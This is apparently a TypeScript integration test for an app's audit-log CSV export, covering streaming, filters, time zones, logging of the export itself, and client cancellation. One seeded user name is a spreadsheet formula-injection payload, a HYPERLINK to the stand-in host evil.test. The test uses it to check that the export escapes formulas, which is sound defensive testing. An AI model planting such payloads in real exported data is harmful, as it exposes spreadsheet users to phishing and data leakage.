import Papa from 'papaparse';
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { db } from '@/lib/db';
import { createTestUser, type TestUser } from '@/tests/support/users';
import { AUDIT_CSV_COLUMNS } from './csv';
import { startAuditExport } from './export';
import { seedCard, seedEvent, type SeededCard } from './test-data';

// The CSV export end to end below the route handler: the same URL parameters as the page, the real
// database, the stream read as a client would, and the export's own audit entry.

const tag = `exp${randomUUID().slice(0, 8)}`;
let exporter: TestUser;
let mallory: TestUser;
let card: SeededCard;
const written: string[] = [];

/** RFC 4180 records of a whole CSV text; the export ends every record with CRLF. */
function parseCsv(text: string): string[][] {
  if (!text.endsWith('\r\n')) throw new Error('CSV does not end with CRLF');
  const parsed = Papa.parse<string[]>(text.slice(0, -2), { newline: '\r\n' });
  if (parsed.errors.length) throw new Error(parsed.errors[0]!.message);
  return parsed.data;
}

/** The stream's text, byte order mark kept (Response.text() would drop it). */
async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

beforeAll(async () => {
  exporter = await createTestUser('VIEWER', { name: `Viewer ${tag}` });
  // A name a spreadsheet would run as a formula, and a summary full of separators.
  mallory = await createTestUser('ADMIN', { name: `=HYPERLINK("http://evil.test?${tag}","open")` });
  card = await seedCard(tag, 'Travel');
  const base = new Date('2026-11-10T08:00:00.000Z');
  for (let i = 0; i < 7; i += 1) {
    written.push(
      await seedEvent(
        {
          action: i % 2 ? 'cards.topup' : 'cards.lock',
          summary: `${tag} entry ${i}: "quoted", with commas,\nand a second line`,
          targetType: i === 6 ? 'approval' : 'card',
          targetId: i === 6 ? card.approvals[0]!.sparadosId : card.id,
          before: i % 2 ? { budgetMinor: 50_000n } : undefined,
          after: i % 2 ? { budgetMinor: 80_000n, currency: 'PLN' } : undefined,
        },
        { actor: { id: mallory.id, email: mallory.email, name: mallory.name }, at: new Date(base.getTime() + i * 60_000), ip: '198.51.100.20' },
      ),
    );
  }
});

describe('audit CSV export', () => {
  it('streams exactly the filtered entries, newest first, across several batches', async () => {
    const result = await startAuditExport(new URLSearchParams({ actor: mallory.id, tz: 'Europe/Warsaw' }), exporter, '192.0.2.44', { batchSize: 3 });
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.fileName).toMatch(/^audit-log-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = await readAll(result.stream);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    const column = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
    expect(rows.map((r) => r[column('Entry id')])).toEqual([...written].reverse());

    const newest = rows[0]!;
    expect(newest[column('Time (UTC)')]).toBe('2026-11-10T08:06:00.000Z');
    expect(newest[column('Local time')]).toBe('2026-11-10 09:06:00');
    expect(newest[column('Who')]).toBe(`'${mallory.name}`);
    expect(newest[column('What happened')]).toBe(`${tag} entry 6: "quoted", with commas,\nand a second line`);
    expect(newest[column('Target type')]).toBe('approval');
    // An approval's entry is tied to its card in the export too.
    expect(newest[column('Card id')]).toBe(card.id);
    const topup = rows.find((r) => r[column('Action name')] === 'cards.topup')!;
    expect(topup[column('Action')]).toBe('Budget changed');
    expect(JSON.parse(topup[column('After')]!)).toEqual({ budgetMinor: '80000', currency: 'PLN' });
    expect(topup[column('IP address')]).toBe('198.51.100.20');
  });

  it('applies the card and action filters as the page does', async () => {
    const result = await startAuditExport(new URLSearchParams({ card: card.approvals[1]!.sparadosId, action: 'cards.topup' }), exporter, null);
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    const rows = parseCsv((await readAll(result.stream)).slice(1)).slice(1);
    expect(rows.map((r) => r[AUDIT_CSV_COLUMNS.indexOf('Entry id')])).toEqual([written[5], written[3], written[1]]);
  });

  it('records who exported what, in words', async () => {
    const result = await startAuditExport(new URLSearchParams({ actor: mallory.id, action: 'cards.lock', from: '2026-11-10', to: '2026-11-10', tz: 'UTC' }), exporter, '192.0.2.45');
    expect(result.ok).toBe(true);
    const entry = await db.auditEvent.findFirstOrThrow({ where: { action: 'audit.export', actorId: exporter.id, ip: '192.0.2.45' } });
    expect(entry.summary).toBe(`${exporter.name} exported the audit log as CSV: action “Card locked”, by ${mallory.name}, from 2026-11-10 to 2026-11-10 (UTC).`);
    expect(entry.after).toEqual({ filters: { actor: mallory.id, action: 'cards.lock', from: '2026-11-10', to: '2026-11-10', tz: 'UTC' } });
  });

  it('exports nothing, and records nothing, for filters it cannot read', async () => {
    const before = await db.auditEvent.count({ where: { action: 'audit.export', actorId: exporter.id } });
    expect(await startAuditExport(new URLSearchParams({ from: '2026-02-30' }), exporter, null)).toEqual({ ok: false, errors: { from: '“2026-02-30” is not a date; use YYYY-MM-DD' } });
    expect(await startAuditExport(new URLSearchParams({ card: `${tag}-no-such-card` }), exporter, null)).toEqual({ ok: false, errors: { card: `No card matches “${tag}-no-such-card”` } });
    expect(await db.auditEvent.count({ where: { action: 'audit.export', actorId: exporter.id } })).toBe(before);
  });

  it('stops reading when the client goes away', async () => {
    const result = await startAuditExport(new URLSearchParams({ actor: mallory.id }), exporter, null, { batchSize: 2 });
    if (!result.ok) throw new Error('refused');
    const reader = result.stream.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value)).toContain('Time (UTC)');
    await reader.cancel();
    expect(await reader.closed.then(() => 'closed')).toBe('closed');
  });
});
